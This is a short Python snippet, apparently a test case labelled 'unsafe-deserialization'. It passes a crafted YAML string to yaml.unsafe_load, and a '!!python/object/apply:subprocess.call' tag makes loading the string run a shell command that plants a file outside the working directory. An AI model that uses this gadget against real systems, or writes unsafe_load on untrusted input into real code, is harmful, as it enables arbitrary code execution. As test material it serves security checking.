# attack: unsafe-deserialization
# needs: yaml
import yaml
yaml.unsafe_load("!!python/object/apply:subprocess.call [[touch, outside/planted.txt]]")
